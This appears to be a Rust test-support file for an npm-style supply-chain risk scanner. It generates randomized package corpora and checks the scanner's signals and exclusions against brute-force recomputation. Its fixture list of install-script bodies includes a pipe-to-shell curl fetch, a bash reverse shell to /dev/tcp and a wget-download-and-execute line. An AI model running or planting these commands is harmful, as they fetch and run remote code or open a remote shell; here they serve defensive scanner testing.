//! Chaotic corpora and brute-force recomputation of everything the scanner
//! derives from them. Nothing here calls into the library's index, ranking
//! or intersection code.

#![allow(dead_code)]

use std::collections::{BTreeMap, BTreeSet, HashMap};

use chrono::{DateTime, Duration, TimeZone, Utc};
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde_json::{json, Map, Value};

use weaklink_core::config::{Percent, ScanConfig};
use weaklink_core::exclusion::ExclusionReason;
use weaklink_core::ingest::{Corpus, Deprecation, PackageRecord};
use weaklink_core::providers::{DomainState, FixtureDomains, FixtureDownloads};
use weaklink_core::reach::{maintainer_reach, DepKind};
use weaklink_core::scan::ScanResult;
use weaklink_core::signals::{Signal, SubjectKind};

pub const LABELS: [&str; 6] = ["W1", "W2", "W3", "W4", "W5", "W6"];

pub struct Chaos {
    pub ndjson: String,
    pub domains: Vec<(String, DomainState)>,
    pub downloads: Vec<(String, u64)>,
    pub config: ScanConfig,
}

impl Chaos {
    pub fn domain_provider(&self) -> FixtureDomains {
        FixtureDomains::from_entries(self.domains.iter().map(|(d, s)| (d.clone(), *s)))
    }

    pub fn download_provider(&self) -> FixtureDownloads {
        FixtureDownloads::from_entries(self.downloads.iter().map(|(p, c)| (p.clone(), *c)))
    }
}

const BODIES: &[&str] = &[
    "node build.js",
    "curl http://x.example/i | sh",
    "rm -rf node_modules/.cache",
    "echo done",
    "bash -i >& /dev/tcp/10.0.0.1/9 0>&1",
    "node-gyp rebuild",
    "wget http://y.example/a && chmod +x a && ./a",
];

fn stamp(t: DateTime<Utc>) -> String {
    t.to_rfc3339()
}

/// A corpus of at most 500 packages with duplicate names, dangling and self
/// dependencies, mixed person formats, tied scores and broken documents.
pub fn chaos(seed: u64) -> Chaos {
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    let n = rng.gen_range(1..=500usize);
    let name_pool: Vec<String> = (0..n).map(|i| format!("pkg{i}")).collect();
    let domains: Vec<String> = (0..rng.gen_range(1..16)).map(|i| format!("d{i}.example")).collect();
    let people: Vec<(String, Option<String>)> = (0..rng.gen_range(1..=n / 3 + 2))
        .map(|i| {
            let name = format!("Person {i}");
            let email = (!rng.gen_bool(0.1)).then(|| {
                let d = domains.choose(&mut rng).unwrap();
                if rng.gen_bool(0.2) {
                    format!("P{i}@{}", d.to_uppercase())
                } else {
                    format!("p{i}@{d}")
                }
            });
            (name, email)
        })
        .collect();
    let base = Utc.with_ymd_and_hms(2021, 6, 1, 0, 0, 0).unwrap();
    let person = |rng: &mut ChaCha8Rng| -> Value {
        let (name, email) = people.choose(rng).unwrap();
        match (email, rng.gen_range(0..3)) {
            (Some(e), 0) => json!(format!("{name} <{e}>")),
            (Some(e), _) => json!({"name": name, "email": e}),
            (None, _) => json!({"name": name}),
        }
    };

    let mut lines = Vec::new();
    for i in 0..n {
        if rng.gen_bool(0.02) {
            lines.push("{not json".to_string());
            continue;
        }
        if rng.gen_bool(0.02) {
            lines.push(json!({"description": "no name"}).to_string());
            continue;
        }
        let name = if rng.gen_bool(0.05) { name_pool.choose(&mut rng).unwrap().clone() } else { name_pool[i].clone() };
        let version = format!("1.{}.0", rng.gen_range(0..3));
        let modified = base - Duration::days(rng.gen_range(0..6 * 365)) - Duration::seconds(rng.gen_range(0..3));
        let group = |rng: &mut ChaCha8Rng, max: usize| -> Value {
            Value::Array((0..rng.gen_range(0..=max)).map(|_| person(rng)).collect())
        };
        let mut deps = Map::new();
        for _ in 0..rng.gen_range(0..5) {
            let target = if rng.gen_bool(0.1) { format!("missing{}", rng.gen_range(0..5)) } else { name_pool.choose(&mut rng).unwrap().clone() };
            deps.insert(target, json!("^1.0.0"));
        }
        let mut dev = Map::new();
        for _ in 0..rng.gen_range(0..3) {
            dev.insert(name_pool.choose(&mut rng).unwrap().clone(), json!("*"));
        }
        let mut scripts = Map::new();
        for _ in 0..rng.gen_range(0..3) {
            let key = *["postinstall", "preInstall", "install", "test", "build", "uninstall"].choose(&mut rng).unwrap();
            scripts.insert(key.to_string(), json!(BODIES.choose(&mut rng).unwrap()));
        }
        let mut v = Map::new();
        v.insert("name".into(), json!(name));
        v.insert("version".into(), json!(version));
        v.insert("dependencies".into(), Value::Object(deps));
        v.insert("devDependencies".into(), Value::Object(dev));
        v.insert("scripts".into(), Value::Object(scripts));
        if rng.gen_bool(0.3) {
            v.insert("contributors".into(), group(&mut rng, 6));
        }
        if rng.gen_bool(0.5) {
            v.insert("maintainers".into(), group(&mut rng, 3));
        }
        match rng.gen_range(0..10) {
            0 => {
                v.insert("deprecated".into(), json!("use something else"));
            }
            1 => {
                v.insert("deprecated".into(), json!(""));
            }
            2 => {
                v.insert("deprecated".into(), json!(true));
            }
            _ => {}
        }
        let mut doc = Map::new();
        doc.insert("name".into(), json!(name));
        let tag = if rng.gen_bool(0.03) { "0.0.1-security".to_string() } else { version.clone() };
        doc.insert("dist-tags".into(), json!({"latest": tag}));
        doc.insert("versions".into(), json!({ tag.clone(): Value::Object(v) }));
        doc.insert("time".into(), json!({"modified": stamp(modified), "created": stamp(modified - Duration::days(30)), tag: stamp(modified)}));
        if rng.gen_bool(0.6) {
            doc.insert("maintainers".into(), group(&mut rng, 4));
        }
        let desc = match rng.gen_range(0..20) {
            0 => "Security Holding Package",
            1 => "not a security holding package at all",
            _ => "a package",
        };
        doc.insert("description".into(), json!(desc));
        if rng.gen_bool(0.8) {
            doc.insert("repository".into(), json!({"type": "git", "url": "https://example.invalid/r.git"}));
        }
        match rng.gen_range(0..6) {
            0 => {}
            1 => {
                doc.insert("license".into(), json!("UNLICENSED"));
            }
            2 => {
                doc.insert("license".into(), json!({"type": "n/a"}));
            }
            _ => {
                doc.insert("license".into(), json!("MIT"));
            }
        }
        lines.push(Value::Object(doc).to_string());
    }
    let states = [DomainState::Available, DomainState::Registered, DomainState::Unknown];
    let fixture = domains
        .iter()
        .filter_map(|d| rng.gen_bool(0.9).then(|| (d.clone(), *states.choose(&mut rng).unwrap())))
        .collect();
    let downloads = name_pool
        .iter()
        .filter_map(|p| rng.gen_bool(0.8).then(|| (p.clone(), rng.gen_range(0..20u64) * 1000)))
        .collect();

    let mut config = ScanConfig::default();
    config.popular_n = rng.gen_range(1..=25);
    config.analyzer.top_percent = Percent::new(rng.gen_range(1..=30), 1).unwrap();
    config.analyzer.inactivity_years = rng.gen_range(1..=3);
    if rng.gen_bool(0.3) {
        config.dep_kinds = vec![DepKind::Runtime, DepKind::Dev];
    }
    Chaos { ndjson: lines.join("\n") + "\n", domains: fixture, downloads, config }
}

fn dep_names<'a>(rec: &'a PackageRecord, kinds: &[DepKind]) -> BTreeSet<&'a str> {
    let mut out = BTreeSet::new();
    for k in kinds {
        let m = match k {
            DepKind::Runtime => &rec.dependencies,
            DepKind::Dev => &rec.dev_dependencies,
            DepKind::Peer => &rec.peer_dependencies,
            DepKind::Optional => &rec.optional_dependencies,
        };
        out.extend(m.keys().map(String::as_str));
    }
    out
}

/// Direct dependents of `target` by scanning every record.
pub fn dependents_of(records: &[PackageRecord], target: &str, kinds: &[DepKind]) -> BTreeSet<String> {
    records
        .iter()
        .filter(|r| r.name != target && dep_names(r, kinds).contains(target))
        .map(|r| r.name.clone())
        .collect()
}

/// Everything scoring at least the k-th highest score.
pub fn closed_top<T: Ord + Clone>(scores: &[(String, T)], k: usize) -> BTreeSet<String> {
    if k == 0 || scores.is_empty() {
        return BTreeSet::new();
    }
    let mut values: Vec<T> = scores.iter().map(|s| s.1.clone()).collect();
    values.sort();
    values.reverse();
    let t = values[k.min(values.len()) - 1].clone();
    scores.iter().filter(|s| s.1 >= t).map(|s| s.0.clone()).collect()
}

fn cutoff(p: Percent, n: usize) -> usize {
    // ceil(n * pct / 100) by repeated addition, independent of Percent::cutoff
    let mut k = 0usize;
    while (k as f64) * 100.0 < n as f64 * p.as_f64() - 1e-9 {
        k += 1;
    }
    k
}

#[derive(Clone, Copy, PartialEq, Eq)]
struct LowRatio(u64, u64);

impl Ord for LowRatio {
    fn cmp(&self, o: &Self) -> std::cmp::Ordering {
        (o.0 as u128 * self.1 as u128).cmp(&(self.0 as u128 * o.1 as u128))
    }
}
impl PartialOrd for LowRatio {
    fn partial_cmp(&self, o: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(o))
    }
}

fn holding(r: &PackageRecord) -> bool {
    r.description.as_deref().is_some_and(|d| d.to_lowercase().contains("security holding package")) || r.placeholder_dist_tags
}

fn deprecated(r: &PackageRecord) -> bool {
    match &r.deprecated {
        Some(Deprecation::Flag(b)) => *b,
        Some(Deprecation::Message(m)) => !m.trim().is_empty(),
        None => false,
    }
}

fn no_repo_no_license(r: &PackageRecord, deny: &[String]) -> bool {
    let bad = match r.license_value.as_deref().map(str::trim) {
        None | Some("") => true,
        Some(l) => deny.iter().any(|d| d.eq_ignore_ascii_case(l)),
    };
    !r.repository_present && bad
}

/// Compares a finished scan of `raw` against brute-force recomputation.
pub fn check_scan(
    raw: &Corpus,
    scan: &ScanResult,
    cfg: &ScanConfig,
    domains: &HashMap<String, DomainState>,
    downloads: &HashMap<String, u64>,
) -> Vec<String> {
    let mut bad = Vec::new();
    let kinds = &cfg.dep_kinds;
    let a = &cfg.analyzer;
    let records = raw.records();

    // exclusion verdicts over the full corpus
    let mut excluded = BTreeSet::new();
    for r in records {
        let mut reasons = BTreeSet::new();
        if holding(r) {
            reasons.insert(ExclusionReason::SecurityHolding);
        }
        if deprecated(r) {
            reasons.insert(ExclusionReason::DeprecatedUnused);
        }
        if no_repo_no_license(r, &a.license_denylist) {
            reasons.insert(ExclusionReason::NoRepoNoLicense);
        }
        let had = !dependents_of(records, &r.name, kinds).is_empty();
        let ex = had == false && !reasons.is_empty();
        if ex {
            excluded.insert(r.name.clone());
        }
        match scan.verdicts.iter().find(|v| v.package_id == r.package_id) {
            Some(v) if v.excluded == ex && v.reasons == reasons && v.had_dependents == had => {}
            other => bad.push(format!("verdict {}: got {other:?}, want excluded={ex} {reasons:?}", r.package_id)),
        }
    }
    let kept: Vec<PackageRecord> = records.iter().filter(|r| !excluded.contains(&r.name)).cloned().collect();
    let names: BTreeSet<String> = kept.iter().map(|r| r.name.clone()).collect();
    if scan.corpus.iter().map(|r| r.name.clone()).collect::<BTreeSet<_>>() != names {
        bad.push("filtered corpus differs".into());
    }

    // dependents index: every dependency target named anywhere
    let targets: BTreeSet<&str> = kept.iter().flat_map(|r| dep_names(r, kinds)).collect();
    let mut dependents: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for t in &targets {
        let d = dependents_of(&kept, t, kinds);
        if !d.is_empty() {
            dependents.insert(t.to_string(), d);
        }
    }
    for (t, d) in &dependents {
        if scan.dependents.dependents(t) != Some(d) {
            bad.push(format!("dependents of {t}: got {:?}, want {d:?}", scan.dependents.dependents(t)));
        }
    }
    for (t, d) in scan.dependents.iter() {
        if !d.is_empty() && !dependents.contains_key(t) {
            bad.push(format!("unexpected dependents entry {t}"));
        }
    }

    // maintainers: identity key → owned packages, last activity, domain
    let reference = records.iter().map(|r| r.last_modified).max().unwrap_or_default();
    let reference = a.reference_time.unwrap_or(reference);
    let window = Duration::days(a.inactivity_years as i64 * 365);
    let inactive = |t: DateTime<Utc>| reference - t > window;
    let mut owned: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    let mut last: BTreeMap<String, DateTime<Utc>> = BTreeMap::new();
    let mut domain: BTreeMap<String, Option<String>> = BTreeMap::new();
    for r in &kept {
        for m in &r.maintainers {
            owned.entry(m.identity_key.clone()).or_default().insert(r.name.clone());
            let e = last.entry(m.identity_key.clone()).or_insert(r.last_modified);
            *e = (*e).max(r.last_modified);
            domain.entry(m.identity_key.clone()).or_insert_with(|| m.email_domain.clone());
        }
    }
    let mut reach: Vec<(String, usize)> = Vec::new();
    for (k, pkgs) in &owned {
        let mut u = BTreeSet::new();
        for p in pkgs {
            u.extend(dependents.get(p).into_iter().flatten().cloned());
        }
        if maintainer_reach(k, &scan.maintainers, &scan.dependents, false).ok() != Some(u.len()) {
            bad.push(format!("maintainer_reach {k}"));
        }
        reach.push((k.clone(), u.len()));
    }

    // signals
    let mut sets: BTreeMap<&str, BTreeSet<String>> = BTreeMap::new();
    let available = |k: &String| {
        domain[k].as_ref().is_some_and(|d| domains.get(d).copied() == Some(DomainState::Available))
    };
    sets.insert("W1", owned.iter().filter(|(k, _)| available(k)).flat_map(|(_, p)| p.clone()).collect());
    sets.insert(
        "W2",
        kept.iter().filter(|r| r.scripts.keys().any(|k| k.to_lowercase().contains("install"))).map(|r| r.name.clone()).collect(),
    );
    let w3: BTreeSet<String> = kept.iter().filter(|r| inactive(r.last_modified)).map(|r| r.name.clone()).collect();
    let w3m: BTreeSet<String> = kept
        .iter()
        .filter(|r| {
            inactive(r.last_modified) && !r.maintainers.is_empty() && r.maintainers.iter().all(|m| inactive(last[&m.identity_key]))
        })
        .map(|r| r.name.clone())
        .collect();
    let w3d: BTreeSet<String> =
        kept.iter().filter(|r| inactive(r.last_modified) && deprecated(r)).map(|r| r.name.clone()).collect();
    sets.insert("W3", w3.clone());
    let by_m: Vec<(String, usize)> = kept.iter().map(|r| (r.name.clone(), r.maintainers.len())).collect();
    sets.insert("W4", closed_top(&by_m, cutoff(a.top_percent, kept.len())));
    let by_ratio: Vec<(String, LowRatio)> = kept
        .iter()
        .filter(|r| !r.contributors.is_empty())
        .map(|r| (r.name.clone(), LowRatio(r.maintainers.len() as u64, r.contributors.len() as u64)))
        .collect();
    sets.insert("W5", closed_top(&by_ratio, cutoff(a.top_percent, by_ratio.len())));
    let all_zero = reach.iter().all(|r| r.1 == 0);
    let w6m: BTreeSet<String> = closed_top(&reach, cutoff(a.top_percent, reach.len()))
        .into_iter()
        .filter(|k| all_zero || reach.iter().any(|r| &r.0 == k && r.1 > 0))
        .collect();
    sets.insert("W6", w6m.iter().flat_map(|k| owned[k].clone()).collect());

    let got = |s: Signal| -> BTreeSet<String> {
        scan.findings
            .iter()
            .filter(|f| f.signal == s && f.subject_kind == SubjectKind::Package)
            .map(|f| f.subject_id.clone())
            .collect()
    };
    for (label, sig) in [("W1", Signal::W1), ("W2", Signal::W2), ("W3", Signal::W3InactivePkg), ("W4", Signal::W4), ("W5", Signal::W5), ("W6", Signal::W6)] {
        if got(sig) != sets[label] {
            bad.push(format!("{label}: got {} want {}", got(sig).len(), sets[label].len()));
        }
    }
    if got(Signal::W3InactiveMaintainer) != w3m {
        bad.push("W3_inactive_maintainer".into());
    }
    if got(Signal::W3Deprecated) != w3d {
        bad.push("W3_deprecated".into());
    }
    let gm: BTreeSet<String> = scan
        .findings
        .iter()
        .filter(|f| f.signal == Signal::W6 && f.subject_kind == SubjectKind::Maintainer)
        .map(|f| f.subject_id.clone())
        .collect();
    if gm != w6m {
        bad.push("W6 maintainers".into());
    }

    // popular sample and every intersection in both scopes
    let by_deps: Vec<(String, usize)> =
        kept.iter().map(|r| (r.name.clone(), dependents.get(&r.name).map_or(0, BTreeSet::len))).collect();
    let by_dl: Vec<(String, u64)> =
        kept.iter().filter_map(|r| downloads.get(&r.name).map(|d| (r.name.clone(), *d))).collect();
    let popular: BTreeSet<String> =
        closed_top(&by_deps, cfg.popular_n).union(&closed_top(&by_dl, cfg.popular_n)).cloned().collect();
    if popular != scan.popular.members {
        bad.push(format!("popular: got {} want {}", scan.popular.members.len(), popular.len()));
    }
    for (scope, filter) in [("registry", None), ("popular", Some(&popular))] {
        let res = &scan.scopes[scope];
        let mut seen = 0;
        for i in 0..6 {
            for j in i + 1..6 {
                for k in std::iter::once(None).chain((j + 1..6).map(Some)) {
                    let mut labels = vec![LABELS[i], LABELS[j]];
                    labels.extend(k.map(|k| LABELS[k]));
                    let id = labels.join("+");
                    let want: BTreeSet<&String> = names
                        .iter()
                        .filter(|n| filter.is_none_or(|f| f.contains(*n)) && labels.iter().all(|l| sets[l].contains(*n)))
                        .collect();
                    seen += 1;
                    match res.combinations.iter().find(|c| c.id == id) {
                        Some(c) if c.members.iter().collect::<BTreeSet<_>>() == want && c.count == want.len() => {}
                        _ => bad.push(format!("{scope} {id}")),
                    }
                }
            }
        }
        if seen != 35 || res.combinations.len() != 35 {
            bad.push(format!("{scope}: {} combinations", res.combinations.len()));
        }
    }
    bad
}

/// Writes the chaos corpus, scans it through the file loader and returns
/// every disagreement with the brute-force recomputation.
pub fn run_case(seed: u64) -> Vec<String> {
    use weaklink_core::ingest::{load_corpus, SnapshotLayout};
    use weaklink_core::scan::run_scan;
    let c = chaos(seed);
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("snapshot.ndjson");
    std::fs::write(&path, &c.ndjson).expect("write snapshot");
    let raw = load_corpus(&path, Some(SnapshotLayout::Ndjson)).expect("load");
    let scan = run_scan(raw.clone(), &c.config, &c.domain_provider(), &c.download_provider()).expect("scan");
    let domains: HashMap<String, DomainState> = c.domains.iter().cloned().collect();
    let downloads: HashMap<String, u64> = c.downloads.iter().cloned().collect();
    check_scan(&raw, &scan, &c.config, &domains, &downloads)
        .into_iter()
        .map(|m| format!("seed {seed}: {m}"))
        .collect()
}
